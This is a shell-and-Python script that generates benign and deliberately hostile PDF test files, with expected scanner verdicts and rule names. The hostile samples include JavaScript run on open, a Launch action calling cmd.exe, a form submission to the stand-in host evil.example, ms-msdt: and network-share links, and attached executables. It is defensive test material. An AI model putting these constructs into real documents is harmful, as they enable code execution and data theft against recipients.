#!/usr/bin/env bash
# PDF documents as programs write them, and hostile ones. Needs python3-reportlab, qpdf, ghostscript.
# Writes into the current folder: files, and a line for each in pdf.tsv:
# file, name it is sent under, category, AVAILABLE or the problem, the rule or "-".
pdf() {
    : >pdf.tsv
    /usr/bin/python3 - <<'PYTHON'
table = open("pdf.tsv", "a")

def line(name, answer="AVAILABLE", rule="-"):
    table.write(f"{name}\t{name}\ttest-report\t{answer}\t{rule}\n")

def document(catalog="", page="", objects=(), version="1.7", before=b"", after=b"", shift=0):
    """A document written by hand; its further objects begin with number 4."""
    all_objects = [f"<</Type/Catalog/Pages 2 0 R {catalog}>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                   f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200] {page}>>", *objects]
    out = bytearray(f"%PDF-{version}\n%\xe2\xe3\xcf\xd3\n".encode("latin-1"))
    places = []
    for number, body in enumerate(all_objects, 1):
        places.append(len(out) + shift)
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    xref = len(out) + shift
    out += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n".encode()
    for place in places:
        out += f"{place:010d} 00000 n \n".encode()
    out += f"trailer\n<</Size {len(places) + 1}/Root 1 0 R>>\nstartxref\n{xref}\n%%EOF\n".encode()
    return before + bytes(out) + after

def write(name, bytes_, answer="AVAILABLE", rule="-"):
    open(name, "wb").write(bytes_)
    line(name, answer, rule)

def stream(text, more=""):
    return f"<<{more}/Length {len(text)}>>\nstream\n{text}\nendstream"

def attached(name, text):
    return document(f"/Names<</EmbeddedFiles<</Names[({name}) 5 0 R]>>>>/AF[5 0 R]", "",
                    [stream(text, "/Type/EmbeddedFile"),
                     f"<</Type/Filespec/F({name})/UF({name})/EF<</F 4 0 R>>/AFRelationship/Source>>"])

def link(action):
    return document("", "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 4 0 R>>]", [action])

for version in ("1.0", "1.1", "1.2", "1.3", "1.4", "1.5", "1.6", "1.7", "2.0"):
    for label, blank in (("plain", b""), ("newline", b"\n"), ("crlf", b"\r\n\r\n"), ("bom", b"\xef\xbb\xbf")):
        for counted in (0, 1):
            write(f"begin-{version}-{label}-{counted}.pdf",
                  document(version=version, before=blank, shift=len(blank) * counted))
for label, padding in (("crlf", b"\r\n"), ("nul", b"\0" * 512), ("ctrl-z", b"\x1a"), ("blank", b" \n" * 100)):
    write(f"end-{label}.pdf", document(after=padding))
for name in ("PDFX4.joboptions", "report.tex", "build.log", "readme", "Main.java", "note.txt", "model.f90", "lib.c",
             "table.dat", "refs.bib", "main.rs", "style.sty", "query.sql", "settings.ini", "a.md", "b.yaml"):
    write(f"attached-{name}.pdf", attached(name, "<< /A false >> setdistillerparams"))
for kind in ("Sound", "Movie", "Launch", "Rendition", "P", "H1", "Table", "Figure", "Note", "JavaScript"):
    for extra in ("/Type/StructElem", ""):
        write(f"structure-{kind}-{len(extra)}.pdf", document("/StructTreeRoot 4 0 R", "", [
            "<</Type/StructTreeRoot/K 5 0 R>>", f"<<{extra}/S/{kind}/P 4 0 R>>"]))
for number, address in enumerate(("https://example.org/", "http://example.org/a?b=c#d", "www.example.org",
        "www.example.org:8080/a", "mailto:a@example.org", "tel:+31201234567", "#page=2", "annex/b.pdf", "../b.pdf",
        "file:///C:/reports/b.pdf", "ftp://example.org/b", "urn:isbn:1", "doi:10.1000/1", "example.org/x y")):
    write(f"link-{number}.pdf", link(f"<</S/URI/URI({address})>>"))
for name in ("GoTo/D[3 0 R/Fit]", "Named/N/NextPage", "ResetForm", "Hide/T(a)", "SetOCGState/State[/ON]", "Trans",
             "Thread/D 0", "GoTo3DView", "GoToR/F(annex.pdf)/D[0/Fit]", "GoToR/F(a/annex.pdf)/D[0/Fit]/NewWindow true"):
    write("action-" + name.split("/")[0] + str(len(name)) + ".pdf", link(f"<</S/{name}>>"))

ACTIVE = "active-content"
positions = {
    "open": lambda a: document("/OpenAction 4 0 R", "", [a]),
    "link": link,
    "page": lambda a: document("", "/AA<</O 4 0 R>>", [a]),
    "next": lambda a: link(f"<</S/GoTo/D[3 0 R/Fit]/Next {a}>>"),
    "loose": lambda a: document("", "", [a]),
}
for kind, own, rule in (("JavaScript", "/JS(app.alert\\(1\\))", "pdf-script"), ("Launch", "/F(cmd.exe)", "pdf-launch"),
        ("SubmitForm", "/F(http://evil.example/)", "pdf-form-sending"), ("ImportData", "/F(a.fdf)", "pdf-other-file"),
        ("Rendition", "/OP 0", "pdf-media"), ("Movie", "/T(a)", "pdf-media"), ("Sound", "/Sound 4 0 R", "pdf-media"),
        ("RichMediaExecute", "/CMD 1", "pdf-media"), ("GoToR", "/F(//server/a.pdf)", "pdf-other-file")):
    for where, place in positions.items():
        write(f"hostile-{kind}-{where}.pdf", place(f"<</S/{kind}{own}>>"), ACTIVE, rule)
for number, (address, rule) in enumerate((("javascript:alert(1)", "pdf-script"), ("file://server/x", "network-share"),
        ("//server/x", "network-share"), ("ms-msdt:/id", "unsafe-link"), ("search-ms:query=x", "unsafe-link"))):
    write(f"hostile-link-{number}.pdf", link(f"<</S/URI/URI({address})>>"), ACTIVE, rule)
for where in ("open", "page"):
    write(f"hostile-opening-{where}.pdf", positions[where]("<</S/URI/URI(https://example.org/)>>"), ACTIVE, "pdf-opening")
for name in ("setup.exe", "run.bat", "a.vbs", "a.js", "a.html"):
    write(f"hostile-attached-{name.replace(chr(46), chr(45))}.pdf", attached(name, "text"), ACTIVE, "attached-program")
for subtype in ("RichMedia", "Movie", "Sound", "Screen", "3D"):
    write(f"hostile-{subtype}.pdf", document("", f"/Annots[<</Type/Annot/Subtype/{subtype}/Rect[0 0 9 9]>>]"), ACTIVE, "pdf-media")
write("hostile-trailing.pdf", document(after=b"more"), "type-mismatch", "trailing-data")
write("hostile-no-end.pdf", document()[:-7], "unreadable-content", "damaged")

from reportlab.pdfgen import canvas
for number in range(24):
    page = canvas.Canvas(f"reportlab-{number}.pdf", pageCompression=number % 2, invariant=1)
    for index in range(1 + number):
        page.drawString(72, 700, f"Report {number}, page {index}")
        page.bookmarkPage(str(index))
        page.addOutlineEntry(f"Page {index}", str(index))
        if number % 3 == 0:
            page.linkURL("https://example.org/", (72, 600, 200, 620))
        if number % 4 == 0:
            page.acroForm.textfield(name=f"a{index}", x=72, y=500)
        page.showPage()
    page.save()
    line(f"reportlab-{number}.pdf")
PYTHON
    local number variant
    for number in $(seq 0 23); do
        for variant in linearize object-streams=generate qdf stream-data=uncompress normalize-content=y coalesce-contents; do
            qpdf "--$variant" "reportlab-$number.pdf" "qpdf-$number-${variant%%=*}.pdf" && pdf_line "qpdf-$number-${variant%%=*}.pdf" AVAILABLE -
        done
        qpdf --encrypt '' owner 256 -- "reportlab-$number.pdf" "locked-$number.pdf" && pdf_line "locked-$number.pdf" AVAILABLE -
        gs -q -dBATCH -dNOPAUSE -sDEVICE=pdfwrite -o "gs-$number.pdf" "reportlab-$number.pdf" && pdf_line "gs-$number.pdf" AVAILABLE -
    done
    qpdf --encrypt user owner 256 -- reportlab-0.pdf hostile-password.pdf && pdf_line hostile-password.pdf encrypted-content password
}

pdf_line() { printf '%s\t%s\ttest-report\t%s\t%s\n' "$1" "$1" "$2" "$3" >>pdf.tsv; }

set -euo pipefail
mkdir -p "$1"
cd "$1"
pdf >&2
awk -v folder="$(pwd)" 'BEGIN { OFS = FS = "\t" } { $1 = folder "/" $1; print }' pdf.tsv
